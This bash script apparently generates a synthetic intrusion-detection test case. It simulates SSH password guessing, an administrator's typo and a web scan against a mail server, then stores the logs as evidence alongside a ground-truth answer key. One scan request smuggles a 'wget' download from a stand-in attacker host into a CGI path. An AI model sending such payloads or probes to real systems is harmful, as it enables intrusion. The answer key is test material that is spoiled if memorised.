#!/bin/bash
# Everybody tries, nobody gets in; the administrator mistypes once.
# Usage: guessed-at.sh OUTDIR
set -euo pipefail
. "$(dirname "$0")/common.sh"
begin "$1"
admin=198.51.100.61 visitor=198.51.100.93
disk bare 480
setup mail3 America/New_York
account henri right.Horse.9 sudo; key henri henri@desk; key_for henri henri
account carla s3cret-carla
printf '<html><h1>Mail service</h1></html>\n' >"$mnt/var/www/html/index.html"
sources="203.0.113.5 203.0.113.6 203.0.113.7 203.0.113.70 203.0.113.71 203.0.113.200"
network $admin $visitor $sources
boot
act ssh_login admin henri $admin "logs in by key" -- typing ssh_key $admin henri henri -tt >/dev/null 2>&1 <<'S'
uptime
exit
S
round() { for s in $sources; do for u in "$@"; do wrong "$s" "$u" "$u$RANDOM" & done; wait $(jobs -p | tail -n $#); done; }
act ssh_guess noise "" "" "six addresses guess and fail" -- round root admin oracle carla
act ssh_typo admin henri $admin "mistypes the password once" -- wrong $admin henri right.Horse.0
act ssh_login admin henri $admin "logs in by password and reads the logs" -- typing ssh_pw $admin henri right.Horse.9 -tt >/dev/null 2>&1 <<'S'
echo right.Horse.9 | sudo -S -p '' tail -3 /var/log/auth.log
exit
S
act ssh_guess noise "" "" "six addresses guess and fail" -- round test guest carla henri
scanning() { for s in 203.0.113.70 203.0.113.71; do for p in wp-login.php xmlrpc.php .env admin/ phpmyadmin/ .git/config backup.zip old/ test.php shell.php cgi-bin/test.cgi vendor/ api/v1 login.jsp config.php.bak db.sql manager/html actuator solr/ wp-content/ joomla/ typo3/ bitrix/ console; do get "$s" -A 'python-requests/2.31' "http://192.0.2.10/$p"; done; get "$s" http://192.0.2.10/index.html; get "$s" "http://192.0.2.10/cgi-bin/luci;wget+http://203.0.113.200/x"; done; }
act web_scan noise "" 203.0.113.70 "asks for things that are not there" -- scanning
act visit visitor "" $visitor "visits the site" -- get $visitor -A 'Mozilla/5.0 Firefox/128.0' http://192.0.2.10/
act ssh_guess noise "" "" "six addresses guess and fail" -- round ubuntu postgres root mysql
sleep 1
down
thin
truth guessed-at America/New_York "$(cat <<J
{"expect":{"status":"attacked","root":null,"entry":[],"persistence":[],"altered":[],"impact":[]},
"must_not":{"accounts":["henri","carla"],"addresses":["$admin","$visitor"],"files":["/etc/cron.d/e2scrub_all"]}}
J
)"
sync
tar -C "$mnt" --numeric-owner --format=pax --pax-option=exthdr.name=%d/PaxHeaders/%f,delete=atime -cf - etc var/log var/spool var/www var/lib/dpkg home root usr/lib/systemd/system | gzip -9 >"$out/evidence.tar.gz"
ls -l "$out"
